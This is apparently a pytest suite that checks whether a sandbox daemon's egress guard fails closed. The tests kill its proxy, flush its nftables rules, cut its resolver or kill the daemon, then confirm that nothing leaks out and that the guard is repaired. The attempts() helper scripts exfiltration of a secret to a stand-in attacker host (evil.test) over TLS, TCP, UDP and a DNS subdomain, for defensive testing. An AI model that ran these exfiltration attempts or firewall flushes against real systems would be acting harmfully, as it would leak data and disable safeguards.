# SPDX-License-Identifier: Apache-2.0
"""When a part of the guard fails nothing passes, somebody is told, and it is repaired or stays cut: E12, C36.

One sandbox of each usable tier at a time, on a daemon of this file's own.
"""

import contextlib
import os
import signal
import time

import pytest

import host
from client import eventually
from fixtures import TIERS
from lab import ALLOWED, ATTACKER, RESOLVER
from names import Answer
from netns import Namespace
from networked import ALLOWED_ONLY, CA, OPEN, SETTINGS, Networked

GOOD = {"op": "tls", "to": [ALLOWED, 443], "sni": "allowed.test", "verify": CA, "timeout": 1,
        "request": "GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n"}


class Patient:
    """A daemon whose helpers die."""

    def __init__(self, daemon, lab):
        self.daemon, self.lab = daemon, lab

    def process(self, word):
        """The pid of this daemon's process with that word as argument; None when there is none."""
        lines = [line for line in host.command_lines([word]) if str(self.daemon.data_dir) in line]
        assert len(lines) <= 1, lines
        return int(lines[0].split()[0]) if lines else None

    @property
    def egress(self):
        return self.process("internal-egress-proxy")

    @property
    def keeper(self):
        return self.process("internal-keep-network")

    @contextlib.contextmanager
    def router(self):
        space = Namespace.of_process(self.keeper, "router")
        try:
            yield space
        finally:
            space.close()

    @contextlib.contextmanager
    def frozen(self):
        """The daemon can do nothing meanwhile: neither repair nor restart."""
        os.kill(self.daemon.pid, signal.SIGSTOP)
        try:
            yield
        finally:
            os.kill(self.daemon.pid, signal.SIGCONT)

    def log_mark(self):
        return self.daemon.log_path.stat().st_size

    def told(self, mark, *words, seconds=10):
        """An error or warning after `mark` in the daemon's log that holds every word."""
        def look():
            with open(self.daemon.log_path, errors="replace") as file:
                file.seek(mark)
                return [line for line in file if all(word in line for word in words) and ("error" in line or "warn" in line)]
        return eventually(look, seconds, f"the daemon's log tells of {words}")


@pytest.fixture(scope="module")
def patient(make_daemon, lab):
    return Patient(make_daemon(config=SETTINGS), lab)


@pytest.fixture
def boxes(patient, lab):
    """One sandbox of each usable tier, with ALLOWED_ONLY."""
    api = patient.daemon.admin
    usable = [r["runtime"] for r in api.call("GET", "/v1/runtimes")["runtimes"] if r["usable"] and r["runtime"] in TIERS]
    made = [Networked.create(api, lab, tier, ALLOWED_ONLY) for tier in usable]
    yield made
    for box in made:
        Networked(patient.daemon.admin, box.info).kill()


def attempts(box, seconds):
    """Loops of attempts to get out by every way, and one to the allowed host, for that long."""
    secret = "s3cr3t"
    denied = [{"op": "tls", "to": [ATTACKER, 443], "sni": "evil.test", "request": secret, "timeout": 0.5},
              {"op": "tcp", "to": [ATTACKER, 80], "send": f"GET /{secret} HTTP/1.1\r\nHost: evil.test\r\n\r\n", "timeout": 0.5},
              {"op": "tcp", "to": [ATTACKER, 7777], "send": secret, "timeout": 0.5},
              {"op": "tcp", "to": ["10.9.0.9", 80], "send": secret, "timeout": 0.5},
              {"op": "udp", "to": [ATTACKER, 443], "send": secret, "timeout": 0.3},
              {"op": "resolve", "name": f"{secret}.evil.test"},
              {"op": "tcp", "to": [box.gateway, 3129], "send": f"GET http://evil.test/{secret} HTTP/1.1\r\nHost: evil.test\r\n\r\n", "timeout": 0.5},
              {"op": "tls", "to": [box.gateway, 3129], "sni": "evil.test", "request": secret, "timeout": 0.5},
              {"op": "udp", "to": [box.gateway, 3053], "send": secret, "timeout": 0.3}]
    return box.begin(*[{"op": "loop", "seconds": seconds, "task": task} for task in [GOOD, *denied]])


def assert_nothing_got_out(results):
    for result in results[1:]:
        for _, _, outcome, text in result["outcomes"]:
            assert outcome != "good" or "egress_denied" in text, result


def good_between(result, begin, end):
    return [o for o in result["outcomes"] if o[2] == "good" and begin <= o[0] and o[1] <= end]


def assert_works(boxes, seconds=10):
    for box in boxes:
        eventually(lambda box=box: box.one(**GOOD).get("handshake"), seconds, f"{box.tier}: the allowed host is reached again")
        assert not box.one(op="tls", to=[ATTACKER, 443], sni="evil.test", request="x").get("handshake")


def test_the_control_of_this_file_works(boxes, lab):
    with lab.watch() as seen:
        results = [finish() for finish in [attempts(box, 1) for box in boxes]]
        assert_works(boxes)
    for result in results:
        assert len([o for o in result[0]["outcomes"] if o[2] == "good"]) >= 2, result[0]
        assert_nothing_got_out(result)
    seen.assert_only({(ALLOWED, 443)}, {"allowed.test"})


def test_e12_c36_without_the_proxy_nothing_passes(patient, boxes, lab):
    """Killed, with the daemon unable to start another one; then it may."""
    mark = patient.log_mark()
    with lab.watch() as seen:
        stream = [box.begin({"op": "tcp", "to": [ALLOWED, 80], "send": "GET /stream HTTP/1.1\r\nHost: allowed.test\r\n\r\n", "timeout": 4,
                             "limit": 1 << 24}) for box in boxes]
        eventually(lambda: len([v for v in lab.site.since(seen.marks["site"]) if v.sent > 200]) == len(boxes), 10, "the streams flow")
        running = [attempts(box, 4) for box in boxes]
        time.sleep(0.5)
        with patient.frozen():
            os.kill(patient.egress, signal.SIGKILL)
            eventually(lambda: host.parents().get(patient.egress, (0, "", "Z"))[2] == "Z", 5, "the proxy is dead")
            lab.fence()
            dead_from, dead_mark = time.time(), lab.uplink.mark()
            time.sleep(2)
            lab.fence()
            dead_until, while_dead = time.time(), lab.uplink.since(dead_mark)
        results = [finish() for finish in running]
    leaked = [f for f in while_dead if f.payload and not f.payload.startswith(b"fence-")]
    assert not leaked, leaked
    for result in results:
        assert_nothing_got_out(result)
        assert not good_between(result[0], dead_from, dead_until), result[0]
        assert [o for o in result[0]["outcomes"] if dead_from <= o[0] < dead_until and o[2] in ("ECONNREFUSED", "ECONNRESET", "timeout")], result[0]
    assert all(finish()[0]["end"] in ("eof", "ECONNRESET") for finish in stream)
    seen.assert_only({(ALLOWED, 443), (ALLOWED, 80)}, {"allowed.test"})
    patient.told(mark, "egress")
    assert_works(boxes)


def test_e12_a_proxy_that_hangs_passes_nothing_and_is_replaced(patient, boxes, lab):
    mark, pid = patient.log_mark(), patient.egress
    with lab.watch() as seen:
        os.kill(pid, signal.SIGSTOP)
        try:
            results = [finish() for finish in [attempts(box, 3) for box in boxes]]
            eventually(lambda: patient.egress not in (pid, None), 40, "another proxy has taken over")
        finally:
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, signal.SIGCONT)
    seen.assert_silent()
    for result in results:
        assert_nothing_got_out(result)
        assert not [o for o in result[0]["outcomes"] if o[2] == "good"], result[0]
    patient.told(mark, "egress")
    assert_works(boxes)


@pytest.mark.parametrize("command", [["flush", "ruleset"], ["flush", "table", "inet", "glovebox"], ["flush", "chain", "inet", "glovebox", "guard"]],
                         ids=" ".join)
def test_e12_a_changed_packet_filter_passes_nothing_and_is_repaired(patient, boxes, lab, command):
    mark = patient.log_mark()
    rules = lambda router: router.run("nft", "-s", "-t", "list", "ruleset", check=False)
    with patient.router() as router, lab.watch() as seen:
        before = rules(router)
        assert "redirect" in before
        running = [attempts(box, 2.5) for box in boxes]
        time.sleep(0.3)
        with patient.frozen():
            router.run("nft", *command)
            assert rules(router) != before
            time.sleep(2.5)
            assert rules(router) != before
        eventually(lambda: rules(router) == before, 12, "the filter is as it was")
        results = [finish() for finish in running]
    seen.assert_only({(ALLOWED, 443)}, {"allowed.test"})
    for result in results:
        assert_nothing_got_out(result)
    patient.told(mark, "network.alert")
    assert_works(boxes)


def test_e12_the_keeper_of_the_router_may_die(patient, boxes, lab):
    mark = patient.log_mark()
    with lab.watch() as seen:
        os.kill(patient.keeper, signal.SIGKILL)
        results = [finish() for finish in [attempts(box, 1) for box in boxes]]
        assert_works(boxes)
    for result in results:
        assert_nothing_got_out(result)
    seen.assert_only({(ALLOWED, 443)}, {"allowed.test"})
    eventually(lambda: patient.keeper, 15, "the router namespace is kept again")
    patient.told(mark, "keeper")


@pytest.mark.parametrize("how", ["cut off", "refusing"])
def test_e12_without_the_resolver_names_fail_and_nobody_else_is_asked(patient, boxes, lab, how):
    host_name = f"x{os.urandom(4).hex()}.allowed.test"  # one that nobody has asked for
    lab.names.script(host_name, Answer([("A", ALLOWED)]))
    answer = {"op": "resolve", "name": host_name}
    for box in boxes:
        box.set_policy({"egress": "allowlist", "allow": [{"host": "*.allowed.test"}]})
    if how == "cut off":
        lab.resolver.run("ip", "link", "set", "eth0", "down")
    else:
        lab.resolver.run("nft", "-f", "-", input="table ip off { chain in { type filter hook input priority 0; "
                         "ip saddr 45.0.0.0/24 reject; }; }")
    try:
        with lab.watch() as seen:
            results = [box.attempt(answer, {**GOOD, "sni": host_name, "timeout": 20}, {"op": "resolve", "name": "evil.test"})
                       for box in boxes]
    finally:
        lab.resolver.run("nft", "delete", "table", "ip", "off", check=False)
        lab.resolver.run("ip", "link", "set", "eth0", "up")
        lab.resolver.run("ip", "route", "replace", "default", "via", "45.53.0.1")
    for name, connection, other in results:
        assert name["error"] == "EAI_AGAIN" and name["ms"] < 15_000, name  # what programs try again
        assert not connection.get("handshake") and connection["error"] not in ("alert 49", "timeout"), connection
        assert other["error"] and other["ms"] < 2000, other
    assert not seen.at_attacker and not seen.destinations - {(RESOLVER, 53)}, seen.left
    for box in boxes:
        assert box.logged(kind="connection", host=host_name)[-1]["verdict"] == "failed"
        eventually(lambda box=box: box.one(**answer).get("addresses") == [ALLOWED], 15, "names resolve again")


def test_e12_the_daemon_dies_and_comes_back(patient, boxes, lab):
    """Nothing passes while it is away; then the policies are in force again, as they were last."""
    boxes[0].set_policy(OPEN)
    boxes[0].set_policy(ALLOWED_ONLY)
    before = {box.id: len(box.log()) for box in boxes}
    with lab.watch() as seen:
        running = [(box, attempts(box, 7)) for box in boxes]
        time.sleep(2)
        proxy = patient.egress
        patient.daemon.process.send_signal(signal.SIGKILL)
        patient.daemon.process.wait()
        eventually(lambda: host.parents().get(proxy, (0, "", "Z"))[2] == "Z", 5, "the proxy ends with the daemon")
        lab.fence()
        dead_from, dead_mark = time.time(), lab.uplink.mark()
        time.sleep(1.5)
        lab.fence()
        dead_until, while_dead = time.time(), lab.uplink.since(dead_mark)
        patient.daemon.start()
        results = []
        for old, finish in running:
            box = again(patient, lab, old)
            eventually(lambda box=box: box.one(**GOOD).get("handshake"), 10, f"{box.tier}: the allowed host is reached again")
    leaked = [f for f in while_dead if f.payload and not f.payload.startswith(b"fence-")]
    assert not leaked, leaked
    seen.assert_only({(ALLOWED, 443)}, {"allowed.test"})
    for old, _ in running:
        box = again(patient, lab, old)
        assert box.network()["policy"]["egress"] == "allowlist" and box.network()["link"] is True
        assert len(box.log()) >= before[box.id], "the connection log outlives the daemon"
        assert not box.one(op="tls", to=[ATTACKER, 443], sni="evil.test", request="x").get("handshake")
        assert box.logged(host="evil.test", verdict="denied")
        eventually(lambda box=box: box.network()["usage"]["bytes_in"] > 0, 5, "use is counted again")
        results += [eventually(lambda box=box: loop_results(box), 15, "the attempts of before have ended")]
    for result in results:
        assert_nothing_got_out(result)
        assert not good_between(result[0], dead_from, dead_until), result[0]
        assert good_between(result[0], 0, dead_from), result[0]


def test_byte_counts_outlive_the_daemon(patient, boxes, lab):
    """Limits on bytes hold over restarts."""
    before = {}
    for box in boxes:
        box.set_policy(ALLOWED_ONLY)
        assert box.one(**GOOD).get("handshake")
    for box in boxes:
        before[box.id] = eventually(lambda: box.network()["usage"]["bytes_in"], 20, "what passed is counted")
    time.sleep(8)  # counted each second, recorded every three
    patient.daemon.process.send_signal(signal.SIGKILL)
    patient.daemon.process.wait()
    patient.daemon.start()
    for old in boxes:
        assert again(patient, lab, old).network()["usage"]["bytes_in"] >= before[old.id]


def again(patient, lab, old):
    box = Networked(patient.daemon.admin, patient.daemon.admin.call("GET", old.path))
    box.lab, box.tier, box._namespace = lab, old.tier, None
    return box


def loop_results(box):
    """The results of attempts() that an earlier daemon started."""
    import json
    for entry in box.ls("/tmp"):
        if entry["name"].endswith(".results"):
            results = json.loads(box.get("/tmp/" + entry["name"]) or b"[]")
            if results and "outcomes" in results[0]:
                return results
    return None


def test_a_stopped_daemon_leaves_sandboxes_cut_off(patient, boxes, lab):
    running = [attempts(box, 4) for box in boxes]
    time.sleep(0.5)
    patient.daemon.stop()
    with lab.watch() as seen:
        time.sleep(1)
    assert not [f for f in seen.left if f.payload], seen.left
    patient.daemon.start()
    assert len(running) == len(boxes)
    assert_works([again(patient, lab, box) for box in boxes])
